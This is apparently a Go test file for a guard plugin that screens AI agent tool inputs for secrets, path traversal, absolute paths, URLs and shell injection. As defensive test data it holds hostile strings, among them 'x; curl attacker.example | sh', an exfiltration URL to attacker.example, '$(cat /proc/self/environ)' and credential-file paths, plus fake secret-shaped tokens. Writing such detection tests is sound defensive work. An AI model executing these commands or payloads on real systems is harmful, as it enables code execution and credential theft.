package main

import (
	"context"
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/agentnode/agentnode/sdk/guard"
	"github.com/agentnode/agentnode/sdk/guard/guardtest"
	"github.com/agentnode/agentnode/sdk/guard/schemacheck"
	"github.com/agentnode/agentnode/sdk/plugin"
)

// TestGoldenCases runs testdata/cases.yaml through the real go-plugin gRPC
// path, in memory.
func TestGoldenCases(t *testing.T) {
	c := guardtest.Connect(t, info(), NewInspector())
	guardtest.RunCases(t, c, filepath.Join("testdata", "cases.yaml"))
}

func TestInfo(t *testing.T) {
	c := guardtest.Connect(t, info(), NewInspector())
	got, err := c.Info(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if got.Name != "builtin" || got.Kind != plugin.KindGuard || got.Version == "" {
		t.Fatalf("info = %+v", got)
	}
}

// check inspects input (a Go value sent as JSON, or []byte sent as is)
// with schema (likewise; nil for none) and network level net.
func check(t *testing.T, insp guard.Inspector, input, schema any, net string) *guard.InspectResponse {
	t.Helper()
	req := &guard.InspectRequest{
		PackageID:   "test-pack",
		Version:     "1.0.0",
		Tool:        "tool",
		Permissions: guard.Permissions{NetworkLevel: net},
		InputJSON:   asJSON(t, input),
	}
	if schema != nil {
		req.InputSchemaJSON = asJSON(t, schema)
		// The host validates, as the kernel does for every call.
		req.SchemaCheck = schemacheck.Check(req.InputSchemaJSON, req.InputJSON)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	resp, err := insp.Inspect(ctx, req)
	if err != nil {
		t.Fatalf("Inspect: %v", err)
	}
	if !resp.Verdict.Valid() {
		t.Fatalf("invalid verdict %q", resp.Verdict)
	}
	return resp
}

func asJSON(t *testing.T, v any) []byte {
	t.Helper()
	switch v := v.(type) {
	case []byte:
		return v
	case string:
		return []byte(v)
	}
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func hasReason(resp *guard.InspectResponse, sub string) bool {
	return slices.ContainsFunc(resp.Reasons, func(r string) bool { return strings.Contains(r, sub) })
}

// fakeSecrets are secret-shaped values, built by concatenation so that the
// source never holds a literal a code host's secret scanner would flag.
// None of them is a real credential.
func fakeSecrets() map[string]string {
	const body = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0"
	return map[string]string{
		"OpenAI API key":    "sk-" + "proj-" + body[:32],
		"Anthropic API key": "sk-" + "ant-" + "api03-" + body[:30],
		"AWS access key id": "AKIA" + "Z7QX4M2N8P6R3T5V",
		"GitHub token":      "ghp" + "_" + body[:36],
		"GitHub token/pat":  "github" + "_pat_" + "11AAAAAAA0" + body[:30],
		"GitHub token/gho":  "gho" + "_" + body[:36],
		"Slack token":       "xox" + "b-" + "123456789012-1234567890123-" + body[:24],
		"Slack token/xoxp":  "xox" + "p-" + "123456789012-" + body[:20],
		"Stripe live key":   "sk" + "_live_" + body[:24],
		"Stripe live key/r": "rk" + "_live_" + body[:24],
		"Google API key":    "AI" + "za" + "Sy" + body[:33],
		"private key":       "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEow" + body,
		"private key/ec":    "-----BEGIN " + "EC PRIVATE KEY-----",
		"JSON Web Token":    "ey" + "JhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiJib2IifQ." + body[:20],
	}
}

// TestSecretsAreDenied covers every secret pattern, in a value, inside free
// text, percent-encoded and as an object key, with every network level.
func TestSecretsAreDenied(t *testing.T) {
	insp := NewInspector()
	schema := map[string]any{"type": "object", "properties": map[string]any{"note": map[string]any{"type": "string"}}}
	for name, secret := range fakeSecrets() {
		kind, _, _ := strings.Cut(name, "/")
		for _, tc := range []struct {
			where string
			input any
		}{
			{"value", map[string]any{"note": secret}},
			{"free text", map[string]any{"note": "here it is: " + secret + " thanks"}},
			{"array", map[string]any{"list": []any{"a", secret}}},
			{"key", map[string]any{"m": map[string]any{secret: 1}}},
		} {
			for _, net := range []string{"none", "unrestricted"} {
				t.Run(name+"/"+tc.where+"/"+net, func(t *testing.T) {
					resp := check(t, insp, tc.input, schema, net)
					if resp.Verdict != guard.VerdictDeny || !hasReason(resp, ruleSecret) || !hasReason(resp, kind) {
						t.Fatalf("got %s %q, want deny naming %q", resp.Verdict, resp.Reasons, kind)
					}
				})
			}
		}
	}
	// Not secrets: prefixes alone, prose, too short, no digits.
	for _, s := range []string{
		"sk-", "sk-learn", "task-force-alpha-bravo-charlie-delta-echo", "sk-this-is-a-long-hyphenated-phrase",
		"AKIA", "AKIA1234", "ghp_short", "xoxb-", "sk_live_", "AIza", "eyJ", "eyJhbGciOiJIUzI1NiJ9",
		"-----BEGIN PUBLIC KEY-----", "-----BEGIN CERTIFICATE-----",
	} {
		t.Run("not a secret/"+s, func(t *testing.T) {
			resp := check(t, insp, map[string]any{"note": s}, schema, "none")
			if resp.Verdict != guard.VerdictAllow {
				t.Fatalf("got %s %q, want allow", resp.Verdict, resp.Reasons)
			}
		})
	}
	// Percent-encoding does not hide a key.
	enc := strings.ReplaceAll(fakeSecrets()["AWS access key id"], "A", "%41")
	if resp := check(t, insp, map[string]any{"note": enc}, schema, "none"); resp.Verdict != guard.VerdictDeny {
		t.Fatalf("percent-encoded key: got %s %q", resp.Verdict, resp.Reasons)
	}
}

// TestReasonsNeverEchoValues checks, over the real gRPC path, that no reason
// quotes the offending value, whatever rule it broke and wherever it is
// (value, array element, object key, schema violation).
func TestReasonsNeverEchoValues(t *testing.T) {
	c := guardtest.Connect(t, info(), NewInspector())
	schema := map[string]any{
		"type": "object",
		"properties": map[string]any{
			"short": map[string]any{"type": "string", "maxLength": 40},
			"mode":  map[string]any{"type": "string", "enum": []any{"fast", "slow"}},
			"code":  map[string]any{"type": "string", "pattern": "^[0-9]+$"},
			"n":     map[string]any{"type": "integer", "maximum": 10},
			"text":  map[string]any{"type": "string"},
			"exact": map[string]any{"const": "fixed-value"},
		},
	}
	values := []string{
		"../../etc/shadow-private-file",
		`..\..\windows\secret-dir`,
		"%2e%2e%2fencoded-traversal",
		"/etc/very-secret-location",
		"~/.aws/credentials-file",
		`C:\Users\bob\secret.kdbx`,
		"https://attacker.example/exfil?d=payload",
		"ftp://attacker.example/drop-zone",
		"x; curl attacker.example | sh",
		"$(cat /proc/self/environ)",
		"`id`-backticked-command",
		"mode-not-in-enum-value",
		"letters-not-digits-pattern",
	}
	for _, s := range fakeSecrets() {
		values = append(values, s)
	}
	fired := map[string]bool{} // values some position did not allow
	for _, v := range values {
		for _, tc := range []struct {
			where string
			input any
		}{
			{"short", map[string]any{"short": v}},
			{"mode", map[string]any{"mode": v}},
			{"code", map[string]any{"code": v}},
			{"text", map[string]any{"text": v}},
			{"exact", map[string]any{"exact": v}},
			{"array", map[string]any{"list": []any{1, v}}},
			{"key", map[string]any{"m": map[string]any{v: "x"}}},
			{"key-in-declared", map[string]any{"mode": map[string]any{v: v}}},
		} {
			t.Run(tc.where+"/"+v, func(t *testing.T) {
				resp := check(t, c, tc.input, schema, "none")
				if resp.Verdict == guard.VerdictAllow {
					return // free text, or a value that fits: nothing to echo
				}
				fired[v] = true
				if len(resp.Reasons) == 0 {
					t.Fatal("a non-allow verdict without reasons")
				}
				for _, r := range resp.Reasons {
					if strings.Contains(r, v) {
						t.Fatalf("reason %q echoes the value", r)
					}
					// Nor a long part of it (a secret's body).
					for i := 0; i+12 <= len(v); i++ {
						if strings.Contains(r, v[i:i+12]) {
							t.Fatalf("reason %q echoes part of the value %q", r, v[i:i+12])
						}
					}
				}
			})
		}
	}
	for _, v := range values {
		if !fired[v] {
			t.Errorf("%q was allowed everywhere, so the test proved nothing for it", v)
		}
	}
	// A number out of range: the schema's limit may be named, the value not.
	resp := check(t, c, map[string]any{"n": 987654321}, schema, "none")
	if resp.Verdict != guard.VerdictPrompt || !hasReason(resp, "maximum: above 10") || hasReason(resp, "987654321") {
		t.Fatalf("got %s %q", resp.Verdict, resp.Reasons)
	}
}

func TestStringLength(t *testing.T) {
	insp := NewInspector()
	for _, tc := range []struct {
		name string
		s    string
		want guard.Verdict
	}{
		{"1000000 chars", strings.Repeat("a", MaxStringChars), guard.VerdictAllow},
		{"1000001 chars", strings.Repeat("a", MaxStringChars+1), guard.VerdictDeny},
		// More than 1M bytes but fewer than 1M characters.
		{"520000 two-byte chars", strings.Repeat("é", 520_000), guard.VerdictAllow},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp := check(t, insp, map[string]any{"s": tc.s}, nil, "none")
			if resp.Verdict != tc.want {
				t.Fatalf("got %s %q, want %s", resp.Verdict, resp.Reasons, tc.want)
			}
			if tc.want == guard.VerdictDeny && !hasReason(resp, ruleString+" at $.s") {
				t.Fatalf("reasons %q", resp.Reasons)
			}
		})
	}
	// A long key counts too.
	resp := check(t, insp, map[string]any{strings.Repeat("k", MaxStringChars+1): 1}, nil, "none")
	if resp.Verdict != guard.VerdictDeny || !hasReason(resp, ruleString+" at $.<key #1>") {
		t.Fatalf("long key: got %s %q", resp.Verdict, resp.Reasons)
	}
}

func TestPayloadSizeBoundary(t *testing.T) {
	insp := NewInspector()
	mk := func(n int) []byte { // {"s":1} padded with white space to n bytes
		return []byte(`{"s":1}` + strings.Repeat(" ", n-7))
	}
	if resp := check(t, insp, mk(MaxPayloadBytes), nil, "none"); resp.Verdict != guard.VerdictAllow {
		t.Fatalf("exactly the limit: got %s %q", resp.Verdict, resp.Reasons)
	}
	resp := check(t, insp, mk(MaxPayloadBytes+1), nil, "none")
	if resp.Verdict != guard.VerdictDeny || !hasReason(resp, rulePayload) {
		t.Fatalf("one byte over: got %s %q", resp.Verdict, resp.Reasons)
	}
}

func TestKeyCountBoundary(t *testing.T) {
	insp := NewInspector()
	mk := func(n int) []byte {
		var b strings.Builder
		b.WriteString("[")
		for i := range n {
			if i > 0 {
				b.WriteString(",")
			}
			fmt.Fprintf(&b, `{"k%d":%d}`, i, i)
		}
		b.WriteString("]")
		return []byte(b.String())
	}
	if resp := check(t, insp, mk(MaxKeys), nil, "none"); resp.Verdict != guard.VerdictAllow {
		t.Fatalf("%d keys: got %s %q", MaxKeys, resp.Verdict, resp.Reasons)
	}
	resp := check(t, insp, mk(MaxKeys+1), nil, "none")
	if resp.Verdict != guard.VerdictDeny || !hasReason(resp, ruleKeys) {
		t.Fatalf("%d keys: got %s %q", MaxKeys+1, resp.Verdict, resp.Reasons)
	}
}

// TestDeepInputIsBounded sends the deepest input that fits the payload
// limit; the walk must stop at the limit, quickly.
func TestDeepInputIsBounded(t *testing.T) {
	insp := NewInspector()
	n := MaxPayloadBytes / 2
	for name, in := range map[string][]byte{
		"arrays":          []byte(strings.Repeat("[", n) + strings.Repeat("]", n)),
		"objects":         []byte(strings.Repeat(`{"a":`, n/5) + "1" + strings.Repeat("}", n/5)),
		"unclosed arrays": []byte(strings.Repeat("[", MaxPayloadBytes)),
	} {
		t.Run(name, func(t *testing.T) {
			// (How long it takes is BenchmarkDeepInput's to measure.)
			resp := check(t, insp, in, map[string]any{"type": "array"}, "none")
			if resp.Verdict != guard.VerdictDeny || !hasReason(resp, ruleDepth) {
				t.Fatalf("got %s %q", resp.Verdict, resp.Reasons)
			}
		})
	}
	// Depth is counted, not guessed from brackets inside strings.
	in := `{"s":"` + strings.Repeat("[", 100) + `"}`
	if resp := check(t, insp, in, nil, "none"); resp.Verdict != guard.VerdictAllow {
		t.Fatalf("brackets in a string: got %s %q", resp.Verdict, resp.Reasons)
	}
}

func TestDeepSchemaIsRefused(t *testing.T) {
	insp := NewInspector()
	schema := strings.Repeat(`{"items":`, guard.MaxSchemaDepth+1) + "true" + strings.Repeat("}", guard.MaxSchemaDepth+1)
	resp := check(t, insp, `[1]`, schema, "none")
	if resp.Verdict != guard.VerdictDeny || !hasReason(resp, ruleInvalidSchema) {
		t.Fatalf("got %s %q", resp.Verdict, resp.Reasons)
	}
	ok := strings.Repeat(`{"items":`, 10) + "true" + strings.Repeat("}", 10)
	if resp := check(t, insp, `[1]`, ok, "none"); resp.Verdict != guard.VerdictAllow {
		t.Fatalf("shallow schema: got %s %q", resp.Verdict, resp.Reasons)
	}
}

func TestMalformedInputIsDenied(t *testing.T) {
	insp := NewInspector()
	for _, in := range []string{
		"", " ", "{", "}", "[1,]", `{"a" 1}`, `{"a":1,}`, "nul", `"unterminated`, "1 2", `{} []`,
		`{"a":1}x`, "\x00", `{1:2}`, "[1]]", `{"a":[1}`,
	} {
		t.Run(fmt.Sprintf("%q", in), func(t *testing.T) {
			resp := check(t, insp, in, nil, "unrestricted")
			if resp.Verdict != guard.VerdictDeny || !hasReason(resp, ruleMalformed) {
				t.Fatalf("got %s %q", resp.Verdict, resp.Reasons)
			}
		})
	}
	// Any single JSON value is a document.
	for _, in := range []string{"1", `"x"`, "null", "[]", " {} ", "\n[1,2]\n"} {
		if resp := check(t, insp, in, nil, "unrestricted"); resp.Verdict != guard.VerdictAllow {
			t.Fatalf("%q: got %s %q", in, resp.Verdict, resp.Reasons)
		}
	}
}

func TestReasonsAreCapped(t *testing.T) {
	insp := NewInspector()
	m := map[string]any{}
	for i := range 50 {
		m[fmt.Sprintf("f%02d", i)] = fmt.Sprintf("../%d", i)
	}
	resp := check(t, insp, m, nil, "none")
	if resp.Verdict != guard.VerdictDeny || len(resp.Reasons) != MaxReasons {
		t.Fatalf("got %s with %d reasons", resp.Verdict, len(resp.Reasons))
	}
	if last := resp.Reasons[MaxReasons-1]; last != "and 31 more findings" {
		t.Fatalf("last reason %q", last)
	}
}

func TestDenyReasonsComeFirst(t *testing.T) {
	insp := NewInspector()
	resp := check(t, insp, map[string]any{"a": "x;y", "b": "../z"}, nil, "none")
	if resp.Verdict != guard.VerdictDeny || len(resp.Reasons) != 2 ||
		!strings.HasPrefix(resp.Reasons[0], ruleTraversal) || !strings.HasPrefix(resp.Reasons[1], ruleShell) {
		t.Fatalf("got %s %q", resp.Verdict, resp.Reasons)
	}
}

func TestCanceledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := NewInspector().Inspect(ctx, &guard.InspectRequest{InputJSON: []byte(`{"a":1}`)})
	if err == nil {
		t.Fatal("no error for a canceled context")
	}
}

func TestNilRequestIsDenied(t *testing.T) {
	resp, err := NewInspector().Inspect(t.Context(), nil)
	if err != nil || resp.Verdict != guard.VerdictDeny {
		t.Fatalf("got %+v, %v", resp, err)
	}
}

func TestFreeTextFromSchema(t *testing.T) {
	insp := NewInspector()
	str := func(extra map[string]any) map[string]any {
		m := map[string]any{"type": "string"}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	for _, tc := range []struct {
		name string
		prop any
		want guard.Verdict
	}{
		{"string without maxLength", str(nil), guard.VerdictAllow},
		{"maxLength 1000", str(map[string]any{"maxLength": 1000}), guard.VerdictAllow},
		{"maxLength 999", str(map[string]any{"maxLength": 999}), guard.VerdictPrompt},
		{"nullable string", map[string]any{"type": []any{"string", "null"}}, guard.VerdictAllow},
		{"no type", map[string]any{"description": "anything"}, guard.VerdictPrompt},
		{"const", str(map[string]any{"const": "a;b"}), guard.VerdictPrompt},
		{"anyOf with a short branch", map[string]any{"anyOf": []any{str(nil), str(map[string]any{"maxLength": 10})}}, guard.VerdictPrompt},
		{"ref to free text", map[string]any{"$ref": "#/$defs/free"}, guard.VerdictAllow},
		{"ref to short text", map[string]any{"$ref": "#/$defs/short"}, guard.VerdictPrompt},
		// Too many alternatives: the look-up gives up (not free text).
		{"100 alternatives", map[string]any{"anyOf": slices.Repeat([]any{str(nil)}, 100)}, guard.VerdictPrompt},
		{"10 alternatives", map[string]any{"anyOf": slices.Repeat([]any{str(nil)}, 10)}, guard.VerdictAllow},
		// The look-up gives up on the cycle (not free text); validation fails.
		{"self ref cycle", map[string]any{"$ref": "#/properties/f"}, guard.VerdictPrompt},
	} {
		t.Run(tc.name, func(t *testing.T) {
			schema := map[string]any{
				"type":       "object",
				"properties": map[string]any{"f": tc.prop},
				"$defs":      map[string]any{"free": str(nil), "short": str(map[string]any{"maxLength": 20})},
			}
			resp := check(t, insp, map[string]any{"f": "a;b"}, schema, "none")
			if resp.Verdict != tc.want {
				t.Fatalf("got %s %q, want %s", resp.Verdict, resp.Reasons, tc.want)
			}
		})
	}
	// Array items and additionalProperties are looked up too.
	schema := map[string]any{
		"type": "object",
		"properties": map[string]any{
			"free":  map[string]any{"type": "array", "items": str(nil)},
			"short": map[string]any{"type": "array", "prefixItems": []any{str(nil)}, "items": str(map[string]any{"maxLength": 5})},
		},
		"additionalProperties": str(nil),
	}
	for _, tc := range []struct {
		input any
		want  guard.Verdict
	}{
		{map[string]any{"free": []any{"a;b", "c|d"}}, guard.VerdictAllow},
		{map[string]any{"short": []any{"a;b"}}, guard.VerdictAllow},
		{map[string]any{"short": []any{"ok", "a;b"}}, guard.VerdictPrompt},
		{map[string]any{"other": "a;b"}, guard.VerdictAllow},
	} {
		if resp := check(t, insp, tc.input, schema, "none"); resp.Verdict != tc.want {
			t.Errorf("%v: got %s %q, want %s", tc.input, resp.Verdict, resp.Reasons, tc.want)
		}
	}
}

func TestRulePredicates(t *testing.T) {
	for s, want := range map[string]bool{
		"../a": true, "a/../b": true, `..\a`: true, "a/..": true, "..": true, " .. ": true, `a\..`: true,
		"a..b": false, "...": false, "a.b/c": false, ".hidden/x": false, "./x": false, "": false,
	} {
		if got := hasTraversal(s); got != want {
			t.Errorf("hasTraversal(%q) = %v", s, got)
		}
	}
	for s, want := range map[string]bool{
		"/etc/passwd": true, "  /x": true, "~": true, "~/x": true, `~\x`: true, "~root/.ssh": true,
		`C:\x`: true, "c:/x": true, "D:": true, `\\srv\share`: true, "file:///x": true, "FILE:x": true,
		"etc/passwd": false, "a/b": false, "~5 minutes": false, "C:x": false, "ab:/x": false, "": false,
		"http://x": false, `\Windows\System32`: true, `\Users/x`: true,
		// regular expressions and escapes are not paths (`\bword\b` stays
		// one: it reads as the rooted path \bword\b)
		`\d+`: false, `\w+@\w+`: false, `\n`: false, `\b\w+@\w+\.\w+\b`: false, `\d\s`: false,
	} {
		if got := isAbsolutePath(s); got != want {
			t.Errorf("isAbsolutePath(%q) = %v", s, got)
		}
	}
	for s, want := range map[string]bool{
		"http://x": true, "see HTTPS://x.y/z": true, "ftp://a": true, "file:///a": true, "s3://bucket": true,
		"git+ssh://host": true, "example.com": false, "http:x": false, "mailto:a@b": false, "a :// b": false,
	} {
		if got := hasURL(s); got != want {
			t.Errorf("hasURL(%q) = %v", s, got)
		}
	}
	for s, want := range map[string]string{
		"a;b": "semicolon", "a&&b": "ampersand", "a|b": "pipe", "`x`": "backtick",
		"$(x)": "command substitution, dollar sign", "$HOME": "dollar sign", "plain (text), ok!": "",
	} {
		if got := shellTokens(s); got != want {
			t.Errorf("shellTokens(%q) = %q, want %q", s, got, want)
		}
	}
	for s, want := range map[string]string{
		"%2e%2e%2f": "../", "%252e": "%2e", "%zz": "%zz", "%2": "%2", "a%41": "aA",
	} {
		if got := percentDecode(s); got != want {
			t.Errorf("percentDecode(%q) = %q, want %q", s, got, want)
		}
	}
	for s, want := range map[string]string{
		"%2e%2E%2f": "../", "%252e": ".", "%25252525252e%2f": "./", "%25": "%", "%2525": "%", "%2525zz": "%zz",
		"%zz": "%zz", "%2": "%2", "%": "%", "a%41b": "aAb", "100%": "100%",
	} {
		if got := deepDecode(s); got != want {
			t.Errorf("deepDecode(%q) = %q, want %q", s, got, want)
		}
	}
	if !hasTraversal(variants("%25252525252e%25252e%2F")[len(variants("%25252525252e%25252e%2F"))-1]) {
		t.Error("deeply encoded traversal not decoded")
	}
}

func TestSchemaCache(t *testing.T) {
	c := newSchemaCache(2)
	a, b := []byte(`{"type":"object"}`), []byte(`{"type":"array"}`)
	s1, p1 := c.get(a)
	s2, _ := c.get(a)
	if p1 != "" || s1 == nil || s1 != s2 {
		t.Fatalf("not cached: %p %p %q", s1, s2, p1)
	}
	c.get(b)
	c.get([]byte(`true`)) // the cache is full: it is emptied first
	if len(c.m) != 1 {
		t.Fatalf("cache holds %d entries, want 1", len(c.m))
	}
	if _, p := c.get([]byte(`{"type": `)); p == "" {
		t.Fatal("a schema that is not JSON was accepted")
	}
	if _, p := c.get([]byte(`{"type": `)); p == "" {
		t.Fatal("a cached schema problem was lost")
	}
	for _, raw := range []string{"", "  ", "null"} {
		if s, p := c.get([]byte(raw)); s != nil || p != "" {
			t.Fatalf("%q: got %v %q, want no schema", raw, s, p)
		}
	}
	if _, p := c.get([]byte(`"a string"`)); p == "" {
		t.Fatal("a string schema was accepted")
	}
}

func TestKeys(t *testing.T) {
	insp := NewInspector()
	for _, tc := range []struct {
		input  string
		want   guard.Verdict
		reason string
	}{
		{`{"doc":{"$schema":"x","$ref":"#/a","q":{"$gt":5}}}`, guard.VerdictAllow, ""},
		{`{"m":{"a;b":1}}`, guard.VerdictPrompt, ruleShell + " at $.m.<key #1>"},
		{`{"m":{"$(id)":1}}`, guard.VerdictPrompt, ruleShell + " at $.m.<key #1>"},
		{`{"m":{"ok":1,"/etc/passwd":1}}`, guard.VerdictDeny, ruleAbsolute + " at $.m.<key #2>"},
		{`{"m":{"https://x.test/":1}}`, guard.VerdictDeny, ruleURL + " at $.m.<key #1>"},
		{`{"a":{"b":1},"a":{"c":2}}`, guard.VerdictDeny, ruleDuplicateKey + " at $.a"},
		{`{"x":{"k":1},"y":{"k":1}}`, guard.VerdictAllow, ""}, // the same key in two objects
		{`{"weird key!":"../x"}`, guard.VerdictDeny, ruleTraversal + " at $.<key #1>"},
	} {
		resp := check(t, insp, tc.input, nil, "none")
		if resp.Verdict != tc.want || (tc.reason != "" && !hasReason(resp, tc.reason)) {
			t.Errorf("%s: got %s %q, want %s with %q", tc.input, resp.Verdict, resp.Reasons, tc.want, tc.reason)
		}
	}
	// A key the schema declares is shown even when it is not an identifier.
	schema := `{"properties":{"weird key!":{"type":"string","maxLength":5}}}`
	resp := check(t, insp, `{"weird key!":"a|b"}`, schema, "none")
	if resp.Verdict != guard.VerdictPrompt || !hasReason(resp, ruleShell+` at $["weird key!"]`) {
		t.Errorf("declared key: got %s %q", resp.Verdict, resp.Reasons)
	}
}

// The host validates the input against the schema and sends the result; a
// request with a schema and no such result cannot be judged on the schema:
// it prompts. A schema the host could not compile denies.
func TestSchemaCheckFromTheHost(t *testing.T) {
	insp := NewInspector()
	req := &guard.InspectRequest{
		Tool:            "tool",
		InputJSON:       []byte(`{"path":"a"}`),
		InputSchemaJSON: []byte(`{"type":"object","properties":{"path":{"type":"string"}}}`),
	}
	resp, err := insp.Inspect(t.Context(), req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Verdict != guard.VerdictPrompt || !strings.Contains(strings.Join(resp.Reasons, ";"), "did not validate") {
		t.Fatalf("no SchemaCheck: %+v, want a prompt", resp)
	}
	req.SchemaCheck = &guard.SchemaCheck{}
	if resp, _ := insp.Inspect(t.Context(), req); resp.Verdict != guard.VerdictAllow {
		t.Fatalf("clean SchemaCheck: %+v, want allow", resp)
	}
	req.SchemaCheck = &guard.SchemaCheck{Violations: []guard.SchemaViolation{{Location: []string{"path"}, Detail: "type: must be integer, not string"}}, Omitted: 2}
	resp, _ = insp.Inspect(t.Context(), req)
	if resp.Verdict != guard.VerdictPrompt || len(resp.Reasons) != 1 ||
		resp.Reasons[0] != "schema_violation at $.path: type: must be integer, not string" {
		t.Fatalf("violation: %+v", resp)
	}
	req.SchemaCheck = &guard.SchemaCheck{Problem: "the input schema does not compile"}
	resp, _ = insp.Inspect(t.Context(), req)
	if resp.Verdict != guard.VerdictDeny || !strings.Contains(resp.Reasons[0], "invalid_schema: the input schema does not compile") {
		t.Fatalf("problem: %+v", resp)
	}
}

// BenchmarkDeepInput measures the inspection of the deepest input the
// payload cap allows (TestDeepInputIsBounded checks the verdict).
func BenchmarkDeepInput(b *testing.B) {
	insp := NewInspector()
	n := MaxPayloadBytes / 2
	in := []byte(strings.Repeat("[", n) + strings.Repeat("]", n))
	schema := []byte(`{"type":"array"}`)
	req := &guard.InspectRequest{PackageID: "test-pack", Version: "1.0.0", Tool: "tool",
		Permissions: guard.Permissions{NetworkLevel: "none"}, InputJSON: in, InputSchemaJSON: schema,
		SchemaCheck: schemacheck.Check(schema, in)}
	for b.Loop() {
		resp, err := insp.Inspect(b.Context(), req)
		if err != nil || resp.Verdict != guard.VerdictDeny {
			b.Fatalf("Inspect: %+v, %v", resp, err)
		}
	}
}

// TestWorkspacePaths: an absolute path inside the run's granted workspace
// passes (over the gRPC path, so the field crosses the wire); any other
// absolute path, one that climbs out with "..", or any absolute path
// without a granted workspace, is still refused.
func TestWorkspacePaths(t *testing.T) {
	c := guardtest.Connect(t, info(), NewInspector())
	inspect := func(ws, p string) *guard.InspectResponse {
		t.Helper()
		resp, err := c.Inspect(t.Context(), &guard.InspectRequest{PackageID: "p", Version: "1", Tool: "t",
			Permissions: guard.Permissions{NetworkLevel: "none", FilesystemLevel: "workspace_read"},
			InputJSON:   asJSON(t, map[string]any{"file_path": p}), Workspace: ws})
		if err != nil {
			t.Fatal(err)
		}
		return resp
	}
	const ws = "/home/u/project"
	for _, p := range []string{ws, ws + "/", ws + "/data.csv", ws + "/sub/dir/out.xlsx"} {
		if resp := inspect(ws, p); resp.Verdict != guard.VerdictAllow {
			t.Errorf("%s in the workspace: %s %q, want allow", p, resp.Verdict, resp.Reasons)
		}
	}
	for _, c := range []struct{ ws, p string }{
		{"", ws + "/data.csv"},
		{ws, "/home/u/project2/data.csv"},
		{ws, "/etc/passwd"},
		{ws, ws + "/../secret"},
		{ws, ws + "/./data.csv"},
		{ws, ws + "//data.csv"},
		{ws, " " + ws + "/data.csv"},
		{ws, "file://" + ws + "/data.csv"},
		{ws, "~/project/data.csv"},
	} {
		if resp := inspect(c.ws, c.p); resp.Verdict != guard.VerdictDeny || !hasReason(resp, ruleAbsolute) && !hasReason(resp, ruleTraversal) {
			t.Errorf("%q with workspace %q: %s %q, want deny", c.p, c.ws, resp.Verdict, resp.Reasons)
		}
	}
}
